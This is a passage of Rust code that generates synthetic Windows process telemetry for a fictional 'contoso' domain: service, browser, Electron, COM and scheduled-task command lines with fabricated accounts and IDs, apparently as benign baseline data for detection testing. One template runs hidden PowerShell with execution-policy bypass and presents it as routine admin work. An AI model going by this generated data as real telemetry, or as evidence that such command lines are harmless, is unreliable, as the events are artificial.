    ("netsvcs", "DsmSvc", 0),
    ("netsvcs", "wlidsvc", 0),
    ("netsvcs", "TokenBroker", 0),
    ("netsvcs", "Themes", 0),
    ("LocalServiceNetworkRestricted", "lmhosts", 1),
    ("LocalServiceNetworkRestricted", "Dhcp", 1),
    ("LocalServiceNetworkRestricted", "EventLog", 1),
    ("LocalServiceNoNetworkFirewall", "BFE", 1),
    ("LocalService", "nsi", 1),
    ("LocalService", "W32Time", 1),
    ("LocalServiceNoNetwork", "DPS", 1),
    ("LocalServiceAndNoImpersonation", "FontCache", 1),
    ("LocalService", "netprofm", 1),
    ("LocalServiceNetworkRestricted", "WinHttpAutoProxySvc", 1),
    ("NetworkService", "Dnscache", 2),
    ("NetworkService", "CryptSvc", 2),
    ("NetworkService", "LanmanWorkstation", 2),
    ("NetworkService", "TermService", 2),
    ("NetworkServiceNetworkRestricted", "PolicyAgent", 2),
    ("NetworkService", "NlaSvc", 2),
    ("LocalSystemNetworkRestricted", "TrkWks", 0),
    ("LocalSystemNetworkRestricted", "SysMain", 0),
    ("LocalSystemNetworkRestricted", "PcaSvc", 0),
    ("utcsvc", "DiagTrack", 0),
    ("wsappx", "AppXSvc", 0),
    ("wsappx", "ClipSVC", 0),
    ("appmodel", "StateRepository", 0),
    ("DcomLaunch", "BrokerInfrastructure", 0),
    ("defragsvc", "defragsvc", 0),
    ("smphost", "smphost", 2),
    ("swprv", "swprv", 0),
    ("WerSvcGroup", "WerSvc", 0),
    ("LocalSystemNetworkRestricted", "TabletInputService", 0),
    ("rpcss", "RpcEptMapper", 2),
    ("InvSvcGroup", "InventorySvc", 0),
    ("osprivacy", "camsvc", 0),
    ("LocalServiceNetworkRestricted", "TimeBrokerSvc", 1),
    ("netsvcs", "LanmanServer", 0),
];

/// Per-user services (their names carry a per-logon suffix).
const USER_SERVICES: &[(&str, &str)] = &[
    ("UnistackSvcGroup", "CDPUserSvc"),
    ("UnistackSvcGroup", "OneSyncSvc"),
    ("ClipboardSvcGroup", "cbdhsvc"),
    ("UnistackSvcGroup", "WpnUserService"),
    ("UdkSvcGroup", "UdkUserSvc"),
    ("PrintWorkflow", "PrintWorkflowUserSvc"),
];

struct Gen<'a> {
    cat: &'a Catalog,
    w: &'a World,
}

impl<'a> Gen<'a> {
    fn img(&self, key: &str, dev: &Device) -> &'a Image {
        self.cat.get(key, dev)
    }

    /// Who is working on `dev`: mostly its primary user (an administrator on servers).
    fn user(&self, rng: &mut Rng, dev: &Device) -> usize {
        if rng.chance(0.9) {
            dev.user
        } else if dev.server {
            self.w.admins + rng.below((self.w.users.len() - self.w.admins) as u64) as usize
        } else {
            rng.below(self.w.admins as u64) as usize
        }
    }

    fn uname(&self, u: usize) -> &'a str {
        &self.w.users[u].name
    }

    fn uacct(&self, dev: &Device, u: usize) -> Acct<'a> {
        let user = &self.w.users[u];
        Acct {
            domain: "contoso",
            name: &user.name,
            sid: &user.sid,
            upn: &user.upn,
            object_id: &user.object_id,
            logon: 0x3e8 + (mix(dev.salt ^ (u as u64).wrapping_mul(0x1090)) % 90_000_000) as i64,
        }
    }

    fn session(&self, dev: &Device, u: usize) -> i64 {
        if dev.server { 2 + (mix(dev.salt ^ u as u64) % 6) as i64 } else { 1 + i64::from(mix(dev.salt ^ u as u64).is_multiple_of(8)) }
    }

    /// `explorer.exe` of the user's session, with `userinit.exe` as its parent.
    fn explorer(&self, rng: &mut Rng, dev: &'a Device, u: usize, t: i64, s: &mut Scratch) -> (Proc<'a>, &'static str, i64, i64) {
        let logon = logon_time(dev, u, t);
        let day = (t - START).div_euclid(DAY) as u64;
        let img = self.img("explorer.exe", dev);
        let p = user_proc(
            img,
            stable_pid(dev.salt ^ u as u64, day, 1_000, 3_000),
            logon + 9 * SECOND,
            self.uacct(dev, u),
            self.uname(u),
            false,
            self.session(dev, u),
            style(rng, dev),
        );
        w!(s.parent_cmd, r"{}\Explorer.EXE", windir(dev));
        (p, "userinit.exe", stable_pid(dev.salt ^ u as u64, day ^ 0x11, 1_000, 3_000), logon + 7 * SECOND)
    }

    /// `services.exe` (its parent `wininit.exe`), started at boot.
    fn services(&self, rng: &mut Rng, dev: &'a Device, s: &mut Scratch) -> (Proc<'a>, &'static str, i64, i64) {
        let p = sys_proc(self.img("services.exe", dev), stable_pid(dev.salt, 1, 150, 100), dev.boot + 4 * SECOND, SYSTEM, style(rng, dev));
        w!(s.parent_cmd, r"{}\services.exe", sysdir(dev));
        (p, "wininit.exe", stable_pid(dev.salt, 2, 120, 30), dev.boot + 3 * SECOND)
    }

    /// A `svchost.exe` instance started at boot by services.exe.
    fn svchost(&self, rng: &mut Rng, dev: &'a Device, group: &str, service: &str, acct: Acct<'a>, s: &mut Scratch) -> Proc<'a> {
        let h = hash_str(service);
        w!(s.parent_cmd, r"{}\svchost.exe -k {group} -p -s {service}", sysdir(dev));
        let mut p = sys_proc(
            self.img("svchost.exe", dev),
            stable_pid(dev.salt, h, 200, 2_000),
            dev.boot + (6 + (h % 40) as i64) * SECOND,
            acct,
            style(rng, dev),
        );
        p.created += (mix(dev.salt ^ h) % 1_000_000) as i64 * 1_000;
        p
    }

    fn event(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let r = rng.below(1000);
        if dev.server {
            return match r {
                0..=299 => self.service_start(rng, dev, t, s),
                300..=519 => self.svchost_child(rng, dev, t, s),
                520..=639 => self.conhost(rng, dev, t, s),
                640..=759 => self.admin(rng, dev, t, s),
                760..=799 => self.installer(rng, dev, t, s),
                800..=849 => self.system_misc(rng, dev, t, s),
                _ => self.server_work(rng, dev, t, s),
            };
        }
        match r {
            0..=259 => self.browser(rng, dev, t, s),
            260..=339 => self.electron(rng, dev, t, s),
            340..=449 => self.service_start(rng, dev, t, s),
            450..=569 => self.svchost_child(rng, dev, t, s),
            570..=659 => self.conhost(rng, dev, t, s),
            660..=729 => self.user_app(rng, dev, t, s),
            730..=814 => self.admin(rng, dev, t, s),
            815..=849 => self.installer(rng, dev, t, s),
            850..=874 => self.office(rng, dev, t, s),
            875..=929 => self.devtools(rng, dev, t, s),
            _ => self.system_misc(rng, dev, t, s),
        }
    }

    fn ev(child: Proc<'a>, parent: Proc<'a>, gp: (&'a str, i64, i64)) -> Ev<'a> {
        Ev { child, parent, grandparent: gp.0, gp_pid: gp.1, gp_created: gp.2, child_path_set: false, parent_path_set: false }
    }

    /// Chrome, Edge and Firefox child processes (renderers, utilities, GPU, crash handler).
    fn browser(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let u = self.user(rng, dev);
        let user = self.uname(u);
        let acct = self.uacct(dev, u);
        let r = rng.below(100);
        let key = match r {
            0..=51 => "chrome",
            52..=55 => "chrome_user",
            56..=94 => "msedge",
            _ => "firefox",
        };
        let img = self.img(key, dev);
        let (ex, ..) = self.explorer(rng, dev, u, t, s);
        s.parent_cmd.clear();
        let day = (t - START).div_euclid(DAY) as u64;
        let main_created = (ex.created + ((30 + mix(dev.salt ^ day ^ hash_str(key)) % 600) as i64) * SECOND).min(t - SECOND);
        let main_pid = stable_pid(dev.salt ^ u as u64 ^ hash_str(key), day, 500, 15_000);
        let parent = user_proc(img, main_pid, main_created, acct, user, false, ex.session, style(rng, dev));
        quoted(&mut s.parent_cmd, img, user);
        match mix(dev.salt ^ day ^ 0xb0) % 4 {
            _ if key == "firefox" => s.parent_cmd.push_str(" -osint -url"),
            0 => s.parent_cmd.push_str(r#" --profile-directory="Profile 1""#),
            1 => s.parent_cmd.push_str(" --restore-last-session"),
            _ => s.parent_cmd.push(' '),
        }
        if key == "firefox" {
            s.parent_cmd.push(' ');
            url(rng, &mut s.parent_cmd);
        }
        let mut child = user_proc(img, pid(rng), t, acct, user, false, ex.session, parent.style);
        quoted(&mut s.cmd, img, user);
        if key == "firefox" {
            child.integrity = "Low";
            let ch = rng.range(2_000, 9_000);
            w!(
                s.cmd,
                " -contentproc --channel={ch} -childID {} -isForBrowser -prefsHandle {} -prefMapHandle {} -prefsLen {} -prefMapSize 244658 -jsInitHandle {} -jsInitLen 234236 -parentBuildID 20240429145413 -greomni \"C:\\Program Files\\Mozilla Firefox\\omni.ja\" -appomni \"C:\\Program Files\\Mozilla Firefox\\browser\\omni.ja\" -appDir \"C:\\Program Files\\Mozilla Firefox\\browser\" - {{",
                rng.range(1, 400),
                rng.range(1_000, 9_000),
                rng.range(1_000, 9_000),
                rng.range(20_000, 40_000),
                rng.range(1_000, 9_000)
            );
            guid(&mut s.cmd, rng.next_u64(), false);
            w!(
                s.cmd,
                "}} {main_pid} \"\\\\.\\pipe\\gecko-crash-server-pipe.{main_pid}\" {} {}",
                rng.range(1_000, 9_000),
                ["tab", "rdd", "socket", "utility", "gpu"][rng.below(5) as usize]
            );
            return Self::ev(child, parent, (ex.img.file.as_str(), ex.pid, ex.created));
        }
        let edge = key == "msedge";
        let trial = |rng: &mut Rng, s: &mut String| {
            w!(
                s,
                " --field-trial-handle={},i,{},{},262144 --variations-seed-version=20240430-180052.437000",
                rng.range(1_800, 2_100),
                rng.next_u64() >> 1,
                rng.next_u64() >> 1
            );
        };
        match rng.below(100) {
            0..=61 => {
                child.integrity = if edge { "Low" } else { "Untrusted" };
                s.cmd.push_str(" --type=renderer");
                if edge {
                    s.cmd.push_str(" --string-annotations");
                }
                trial(rng, &mut s.cmd);
                w!(
                    s.cmd,
                    " --lang=en-US --device-scale-factor={} --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={} --time-ticks-at-unix-epoch=-{} --launch-time-ticks={} --mojo-platform-channel-handle={} /prefetch:1",
                    ["1", "1.25", "1.5", "2"][rng.below(4) as usize],
                    rng.range(5, 900),
                    1_714_400_000_000_000 + rng.below(200_000_000_000) as i64,
                    rng.range(1_000_000, 90_000_000_000),
                    rng.range(1_000, 9_999)
                );
            }
            62..=81 => {
                let (sub, sandbox) = [
                    ("network.mojom.NetworkService", "none"),
                    ("storage.mojom.StorageService", "service"),
                    ("audio.mojom.AudioService", "audio"),
                    ("data_decoder.mojom.DataDecoderService", "service"),
                    ("chrome.mojom.UtilWin", "none"),
                    ("edge_search_indexer.mojom.SearchIndexerInterfaceBroker", "none"),
                    ("video_capture.mojom.VideoCaptureService", "none"),
                ][rng.below(7) as usize];
                child.integrity = if sandbox == "none" { "Medium" } else { "Low" };
                w!(s.cmd, " --type=utility --utility-sub-type={sub} --lang=en-US --service-sandbox-type={sandbox}");
                trial(rng, &mut s.cmd);
                w!(
                    s.cmd,
                    " --mojo-platform-channel-handle={} /prefetch:{}",
                    rng.range(1_000, 9_999),
                    [8, 11, 12, 13, 14][rng.below(5) as usize]
                );
            }
            82..=88 => {
                child.integrity = "Low";
                s.cmd.push_str(" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAEAAAAAAAAAAQAAAAAAAAAAgAAAAAAAAACAAAAAAAAAAIAAAAAAAAAA==");
                trial(rng, &mut s.cmd);
                w!(s.cmd, " --mojo-platform-channel-handle={} /prefetch:2", rng.range(1_000, 9_999));
            }
            89..=93 => {
                let (vendor, prod, url) = if edge {
                    (r"Microsoft\Edge", "Edge", "https://edge.microsoft.com/crashpad/report")
                } else {
                    (r"Google\Chrome", "Chrome", "https://clients2.google.com/cr/report")
                };
                w!(
                    s.cmd,
                    r#" --type=crashpad-handler "--user-data-dir=C:\Users\{user}\AppData\Local\{vendor}\User Data" /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "--database=C:\Users\{user}\AppData\Local\{vendor}\User Data\Crashpad" --url={url} --annotation=channel= --annotation=plat=Win64 --annotation=prod={prod} --annotation=ver={} --initial-client-data=0x{:x},0x{:x},0x{:x},0x{:x},0x{:x},0x{:x},0x{:x}"#,
                    img.version,
                    rng.range(0x100, 0x300),
                    rng.range(0x100, 0x300),
                    rng.range(0x100, 0x300),
                    rng.range(0x100, 0x300),
                    rng.range(0x100, 0x300),
                    0x7ff6_0000_0000u64 + rng.below(1 << 32),
                    0x7ff6_0000_0000u64 + rng.below(1 << 32)
                );
            }
            _ => {
                // An extension or a renderer with the experiment switches: the long tail.
                child.integrity = if edge { "Low" } else { "Untrusted" };
                s.cmd.push_str(" --type=renderer --extension-process --enable-features=");
                let n = 5 + rng.below(25) as usize;
                for i in 0..n {
                    if i > 0 {
                        s.cmd.push(',');
                    }
                    s.cmd.push_str(FEATURES[rng.below(FEATURES.len() as u64) as usize]);
                    if rng.chance(0.2) {
                        w!(s.cmd, "<{}", FEATURES[rng.below(FEATURES.len() as u64) as usize]);
                    }
                }
                s.cmd.push_str(" --disable-features=");
                for i in 0..(2 + rng.below(8)) {
                    if i > 0 {
                        s.cmd.push(',');
                    }
                    s.cmd.push_str(FEATURES[rng.below(FEATURES.len() as u64) as usize]);
                }
                trial(rng, &mut s.cmd);
                w!(
                    s.cmd,
                    " --lang=en-US --renderer-client-id={} --mojo-platform-channel-handle={} /prefetch:1",
                    rng.range(5, 900),
                    rng.range(1_000, 9_999)
                );
            }
        }
        Self::ev(child, parent, (ex.img.file.as_str(), ex.pid, ex.created))
    }

    /// WebView2 (new Teams), VS Code and Slack child processes.
    fn electron(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let u = self.user(rng, dev);
        let user = self.uname(u);
        let acct = self.uacct(dev, u);
        let (ex, ..) = self.explorer(rng, dev, u, t, s);
        s.parent_cmd.clear();
        let day = (t - START).div_euclid(DAY) as u64;
        let r = rng.below(100);
        let app = match r {
            0..=49 => "teams",
            50..=79 => "code",
            _ => "slack",
        };
        let app_img = self.img(app, dev);
        let app_created = (ex.created + ((20 + mix(dev.salt ^ day ^ hash_str(app)) % 900) as i64) * SECOND).min(t - SECOND);
        let app_pid = stable_pid(dev.salt ^ u as u64 ^ hash_str(app), day, 500, 15_000);
        let mut parent = user_proc(app_img, app_pid, app_created, acct, user, false, ex.session, style(rng, dev));
        let mut gp = (ex.img.file.as_str(), ex.pid, ex.created);
        let kind = ["renderer", "renderer", "renderer", "utility", "gpu-process"][rng.below(5) as usize];
        let child_img;
        if app == "teams" {
            child_img = self.img("msedgewebview2", dev);
            let main_webview = rng.chance(0.7);
            quoted(&mut s.cmd, child_img, user);
            if main_webview {
                // A renderer of the browser process WebView2 started for Teams.
                gp = (app_img.file.as_str(), app_pid, app_created);
                parent = user_proc(
                    child_img,
                    stable_pid(dev.salt ^ u as u64 ^ 0x3eb, day, 500, 15_000),
                    app_created + 2 * SECOND,
                    acct,
                    user,
                    false,
                    ex.session,
                    style(rng, dev),
                );
                quoted(&mut s.parent_cmd, child_img, user);
                w!(
                    s.parent_cmd,
                    r#" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --webview-exe-version={} --user-data-dir="C:\Users\{user}\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView" --noerrdialogs --embedded-browser-webview-dpi-awareness=2 --disable-features=msSmartScreenProtection,msWebOOUI --enable-features=MojoIpcz,msEdgeWebViewApplyWebResourceRequestedFilterForOOPIFs --lang=en-US --mojo-named-platform-channel-pipe={}.{}.{}"#,
                    app_img.version,
                    app_pid / 4 * 4,
                    rng.range(1_000, 9_999),
                    rng.next_u64() % 100_000_000_000
                );
            } else {
                quoted(&mut s.parent_cmd, app_img, user);
                s.parent_cmd.push_str(" msteams:system-initiated");
            }
            w!(
                s.cmd,
                r#" --type={kind} --noerrdialogs --user-data-dir="C:\Users\{user}\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView" --webview-exe-name=ms-teams.exe --webview-exe-version={} --embedded-browser-webview=1 --embedded-browser-webview-dpi-awareness=2"#,
                app_img.version
            );
        } else {
            child_img = app_img;
            quoted(&mut s.parent_cmd, app_img, user);
            if app == "code" && rng.chance(0.3) {
                w!(s.parent_cmd, r#" "C:\Users\{user}\source\repos\{}""#, REPOS[rng.below(REPOS.len() as u64) as usize]);
            }
            quoted(&mut s.cmd, child_img, user);
            let dir = child_img.path[0].rsplit_once('\\').map_or("", |(d, _)| d).replace("{u}", user);
            if app == "code" {
                w!(
                    s.cmd,
                    r#" --type={kind} --user-data-dir="C:\Users\{user}\AppData\Roaming\Code" --standard-schemes=vscode-webview,vscode-file --enable-sandbox --secure-schemes=vscode-webview,vscode-file --cors-schemes=vscode-webview,vscode-file --fetch-schemes=vscode-webview,vscode-file --service-worker-schemes=vscode-webview --code-cache-schemes=vscode-webview,vscode-file --app-path="{dir}\resources\app" --no-sandbox --node-integration-in-worker --lang=en-US"#
                );
            } else {
                w!(
                    s.cmd,
                    r#" --type={kind} --user-data-dir="C:\Users\{user}\AppData\Roaming\Slack" --app-user-model-id=com.squirrel.slack.slack --app-path="{dir}\resources\app.asar" --enable-sandbox --enable-blink-features=ExperimentalJSProfiler --lang=en-US"#
                );
            }
        }
        w!(
            s.cmd,
            " --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={} --time-ticks-at-unix-epoch=-{} --launch-time-ticks={} --field-trial-handle={},i,{},{},262144 --mojo-platform-channel-handle={} /prefetch:1",
            rng.range(4, 300),
            1_714_400_000_000_000 + rng.below(200_000_000_000) as i64,
            rng.range(1_000_000, 90_000_000_000),
            rng.range(1_800, 2_100),
            rng.next_u64() >> 1,
            rng.next_u64() >> 1,
            rng.range(1_000, 9_999)
        );
        let mut child = user_proc(child_img, pid(rng), t, acct, user, false, ex.session, parent.style);
        if kind == "renderer" {
            child.integrity = "Low";
        }
        Self::ev(child, parent, gp)
    }

    /// services.exe starting a service: svchost.exe instances, per-user services, and the
    /// services of Windows, Defender, Office, management agents and servers.
    fn service_start(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let (parent, gp, gp_pid, gp_created) = self.services(rng, dev, s);
        let r = rng.below(100);
        let st = style(rng, dev);
        let child = if r < 70 {
            let (group, service, who) = SERVICES[rng.below(SERVICES.len() as u64) as usize];
            let acct = [SYSTEM, LOCAL_SERVICE, NETWORK_SERVICE][who as usize];
            let no_p = matches!(group, "rpcss" | "swprv" | "defragsvc" | "smphost");
            w!(s.cmd, r"{}\svchost.exe -k {group}{} -s {service}", sysdir(dev), if no_p { "" } else { " -p" });
            sys_proc(self.img("svchost.exe", dev), pid(rng), t, acct, st)
        } else if r < 80 && !dev.server {
            let u = self.user(rng, dev);
            let (group, service) = USER_SERVICES[rng.below(USER_SERVICES.len() as u64) as usize];
            w!(s.cmd, r"{}\svchost.exe -k {group} -s {service}_", sysdir(dev));
            hex(&mut s.cmd, dev.salt ^ logon_time(dev, u, t) as u64, 5, false);
            let mut p = sys_proc(self.img("svchost.exe", dev), pid(rng), t, self.uacct(dev, u), st);
            p.session = self.session(dev, u);
            p.integrity = "Medium";
            p
        } else {
            const OTHERS: &[(&str, &str, bool)] = &[
                ("msiexec.exe", "/V", false),
                ("SearchIndexer.exe", "/Embedding", false),
                ("spoolsv.exe", "", false),
                ("TrustedInstaller.exe", "", false),
                ("sppsvc.exe", "", false),
                ("VSSVC.exe", "", false),
                ("SecurityHealthService.exe", "", false),
                ("SgrmBroker.exe", "", false),
                ("mssense", "", true),
                ("mpdefendercore", "", true),
                ("msmpeng", "", true),
                ("nissrv", "", true),
                ("ccmexec", "", true),
                ("intune", "", true),
                ("c2r", "/service", true),
                ("edgeupdate", "/svc", true),
                ("googleupdate", "/svc", true),
                ("chrome_elevation", "", true),
                ("sqlservr", "-sMSSQLSERVER", true),
                ("vmtoolsd", "", true),
                ("sqlceip", "-Service", true),
            ];
            let (key, args, app) = OTHERS[rng.below(OTHERS.len() as u64) as usize];
            let img = self.img(key, dev);
            if app {
                quoted(&mut s.cmd, img, "");
            } else {
                w!(s.cmd, r"{}\{}", sysdir(dev), img.file);
            }
            if !args.is_empty() {
                s.cmd.push(' ');
                s.cmd.push_str(args);
            }
            let acct = match key {
                "sqlservr" => Acct {
                    domain: "nt service",
                    name: "mssqlserver",
                    sid: "S-1-5-80-3880718306-3832830129-1677859214-2598158968-1052248003",
                    upn: "",
                    object_id: "",
                    logon: 996,
                },
                "sqlceip" => Acct {
                    domain: "nt service",
                    name: "sqltelemetry",
                    sid: "S-1-5-80-2652535364-2169709536-2857650723-2622804123-1107741775",
                    upn: "",
                    object_id: "",
                    logon: 996,
                },
                "sppsvc.exe" => NETWORK_SERVICE,
                _ => SYSTEM,
            };
            sys_proc(img, pid(rng), t, acct, st)
        };
        Self::ev(child, parent, (gp, gp_pid, gp_created))
    }

    /// Children of svchost.exe: COM servers of DcomLaunch (WmiPrvSE, RuntimeBroker, dllhost,
    /// background task hosts) and the task scheduler's tasks.
    fn svchost_child(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let u = self.user(rng, dev);
        let user = self.uname(u);
        let ua = self.uacct(dev, u);
        let sess = self.session(dev, u);
        let st = style(rng, dev);
        let sys = sysdir(dev);
        let (svc, ..) = self.services(rng, dev, s);
        s.parent_cmd.clear();
        let gp = (svc.img.file.as_str(), svc.pid, svc.created);
        if rng.chance(0.55) {
            let parent = self.svchost(rng, dev, "DcomLaunch", "DcomLaunch", SYSTEM, s);
            let r = rng.below(100);
            let (key, as_user): (&str, bool) = match r {
                0..=21 => ("WmiPrvSE.exe", false),
                22..=41 => ("RuntimeBroker.exe", true),
                42..=55 => ("dllhost.exe", rng.chance(0.7)),
                56..=63 => ("backgroundTaskHost.exe", true),
                64..=68 => ("smartscreen.exe", true),
                69..=72 => ("ApplicationFrameHost.exe", true),
                73..=75 => ("SystemSettingsBroker.exe", true),
                76..=79 => ("MoUsoCoreWorker.exe", false),
                80..=82 => ("SppExtComObj.Exe", false),
                83..=84 => ("UserOOBEBroker.exe", true),
                85..=88 => ("filecoauth", true),
                89..=91 => ("StartMenuExperienceHost.exe", true),
                92..=94 => ("SearchHost.exe", true),
                95..=96 => ("TextInputHost.exe", true),
                97 => ("LockApp.exe", true),
                _ => ("mobsync.exe", true),
            };
            let img = self.img(key, dev);
            match key {
                "WmiPrvSE.exe" => {
                    w!(s.cmd, r"{sys}\wbem\wmiprvse.exe {}", if rng.chance(0.7) { "-secured -Embedding" } else { "-Embedding" })
                }
                "dllhost.exe" => {
                    w!(s.cmd, r"{sys}\DllHost.exe /Processid:{}", DLLHOST_CLSIDS[rng.below(DLLHOST_CLSIDS.len() as u64) as usize])
                }
                "backgroundTaskHost.exe" => w!(
                    s.cmd,
                    r#""{sys}\backgroundTaskHost.exe" -ServerName:{}"#,
                    [
                        "BackgroundTaskHost.WebAccountProvider",
                        "App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
                        "CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca",
                        "Microsoft.Windows.Photos.BackgroundTasks.AppXp1t4dyfhvyb3ykfr5cxnph6xcvt3g1ab.mca"
                    ][rng.below(4) as usize]
                ),
                "StartMenuExperienceHost.exe" => w!(s.cmd, r#""{}" -ServerName:App.AppXywbrabmsek0gm3tkwpr5kwzbs55tkqay.mca"#, img.path[0]),
                "SearchHost.exe" => w!(s.cmd, r#""{}" -ServerName:CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca"#, img.path[0]),
                "TextInputHost.exe" => w!(s.cmd, r#""{}" -ServerName:InputApp.AppXjd5de1g66v206tj52m9d0dtpppx4cgpn.mca"#, img.path[0]),
                "LockApp.exe" => {
                    w!(s.cmd, r#""{}" -ServerName:WindowsDefaultLockScreen.AppX7y4nbzq37zn4ks9k7amqjywdat7d3j2z.mca"#, img.path[0])
                }
                "filecoauth" => {
                    quoted(&mut s.cmd, img, user);
                    s.cmd.push_str(" -Embedding");
                }
                _ => w!(s.cmd, r"{sys}\{} -Embedding", img.file),
            }
            let child = if as_user {
                let mut p = user_proc(img, pid(rng), t, ua, user, false, sess, st);
                if key == "RuntimeBroker.exe" || key == "backgroundTaskHost.exe" {
                    p.integrity = if rng.chance(0.3) { "Low" } else { "Medium" };
                }
                p
            } else {
                let acct = if key == "WmiPrvSE.exe" {
                    [NETWORK_SERVICE, NETWORK_SERVICE, SYSTEM, LOCAL_SERVICE][rng.below(4) as usize]
                } else if key == "SppExtComObj.Exe" {
                    NETWORK_SERVICE
                } else {
                    SYSTEM
                };
                sys_proc(img, pid(rng), t, acct, st)
            };
            return Self::ev(child, parent, gp);
        }
        // The task scheduler.
        let parent = self.svchost(rng, dev, "netsvcs", "Schedule", SYSTEM, s);
        let r = rng.below(100);
        let mut as_user = false;
        let key: &str = match r {
            0..=17 => {
                as_user = true;
                w!(
                    s.cmd,
                    "taskhostw.exe {}",
                    [
                        "{222A245B-E637-4AE9-A93F-A59CA119A75E}",
                        "-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
                        "Install $(Arg0)",
                        "KEYROAMING",
                        "NGCKeyPregen",
                        "SYSTEM",
                        "$(Arg0)",
                        "-RegisterUserDevice -NoAutoNatRelease"
                    ][rng.below(8) as usize]
                );
                "taskhostw.exe"
            }
            18..=27 => {
                quoted(&mut s.cmd, self.img("mpcmdrun", dev), "");
                w!(
                    s.cmd,
                    " -IdleTask -TaskName {}",
                    ["WdCacheMaintenance", "WdCleanup", "WdScheduledScan", "WdVerification"][rng.below(4) as usize]
                );
                "mpcmdrun"
            }
            28..=35 => {
                quoted(&mut s.cmd, self.img("edgeupdate", dev), "");
                s.cmd.push_str(if rng.chance(0.7) { " /ua /installsource scheduler" } else { " /c" });
                "edgeupdate"
            }
            36..=40 => {
                if rng.chance(0.5) {
                    quoted(&mut s.cmd, self.img("googleupdate", dev), "");
                    s.cmd.push_str(" /ua /installsource scheduler");
                    "googleupdate"
                } else {
                    quoted(&mut s.cmd, self.img("googleupdater", dev), "");
                    s.cmd.push_str(" --wake --system");
                    "googleupdater"
                }
            }
            41..=47 => {
                as_user = true;
                quoted(&mut s.cmd, self.img("onedrive_updater", dev), user);
                s.cmd.push_str(" /reporting");
                "onedrive_updater"
            }
            48..=51 => {
                w!(s.cmd, r"{sys}\sihclient.exe  /cv ");
                alnum(&mut s.cmd, rng.next_u64(), 22, rng.chance(0.5));
                s.cmd.push_str(".0.2");
                "sihclient.exe"
            }
            52..=57 => {
                w!(
                    s.cmd,
                    r"{sys}\compattelrunner.exe {}",
                    [
                        "-m:appraiser.dll -f:DoScheduledTelemetryRun",
                        "-m:invagent.dll -f:RunUpdate",
                        "-maintenance",
                        "-m:aeinv.dll -f:UpdateSoftwareInventoryW invsvc",
                        "-m:generaltel.dll -f:DoCensusRun"
                    ][rng.below(5) as usize]
                );
                if rng.chance(0.5) {
                    s.cmd.push_str(" -cv:");
                    alnum(&mut s.cmd, rng.next_u64(), 16, false);
                    s.cmd.push_str(".2");
                }
                "CompatTelRunner.exe"
            }
            58..=61 => {
                w!(
                    s.cmd,
                    r"{sys}\usoclient.exe {}",
                    ["StartScan", "StartOobeAppsScanAfterUpdate", "StartScanInstallAndReboot", "StartInstall"][rng.below(4) as usize]
                );
                "usoclient.exe"
            }
            62..=64 => {
                w!(s.cmd, r"{sys}\defrag.exe -c -h -o -$");
                "defrag.exe"
            }
            65..=67 => {
                w!(s.cmd, r"{sys}\DeviceCensus.exe {}", ["SystemCxt", "UserCxt", ""][rng.below(3) as usize]);
                "DeviceCensus.exe"
            }
            68..=74 => {
                w!(
                    s.cmd,
                    r#""{sys}\rundll32.exe" {}"#,
                    [
                        r"C:\WINDOWS\system32\Windows.StateRepositoryClient.dll,StateRepositoryDoMaintenanceTasks",
                        "Startupscan.dll,SusRunTask",
                        r#""C:\WINDOWS\system32\PcaSvc.dll",PcaPatchSdbTask"#,
                        r"C:\Windows\System32\LocationNotificationWindows.exe",
                        "AppXDeploymentExtensions.OneCore.dll,ShellRefresh",
                        r"C:\WINDOWS\system32\dsreg.dll,DsrCreateLocalPortalTokens",
                    ][rng.below(6) as usize]
                );
                "rundll32.exe"
            }
            75..=77 => {
                w!(s.cmd, r"{sys}\wermgr.exe -upload");
                "wermgr.exe"
            }
            78..=80 => {
                w!(
                    s.cmd,
                    r"{sys}\dsregcmd.exe {}",
                    ["/checkrecovery", "$(Arg0) $(Arg1) $(Arg2)", "/AzureSecureVMJoin /debug /MdmId 0000000a-0000-0000-c000-000000000000"]
                        [rng.below(3) as usize]
                );
                "dsregcmd.exe"
            }
            81..=86 => {
                w!(
                    s.cmd,
                    r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -File "C:\ProgramData\Contoso\Scripts\{}.ps1""#,
                    ["Collect-Inventory", "Sync-Printers", "Clear-TempFiles", "Set-TimeZone", "Get-BitLockerStatus", "Update-Wallpaper"]
                        [rng.below(6) as usize]
                );
                "powershell.exe"
            }
            87..=90 => {
                quoted(&mut s.cmd, self.img("c2rclient", dev), "");
                s.cmd.push_str(" /frequentupdate SCHEDULEDTASK displaylevel=False");
                "c2rclient"
            }
            91..=92 => {
                w!(s.cmd, r"{sys}\cleanmgr.exe /autoclean /d C:");
                "cleanmgr.exe"
            }
            93..=94 => {
                w!(s.cmd, r"{sys}\wsqmcons.exe");
                "wsqmcons.exe"
            }
            95..=96 => {
                w!(s.cmd, r"{sys}\tzsync.exe");
                "tzsync.exe"
            }
            _ => {
                w!(s.cmd, r#""{sys}\BackgroundTransferHost.exe" -ServerName:BackgroundTransferHost.{}"#, rng.range(1, 40));
                as_user = true;
                "BackgroundTransferHost.exe"
            }
        };
        let img = self.img(key, dev);
        let child = if as_user {
            let mut p = user_proc(img, pid(rng), t, ua, user, false, sess, st);
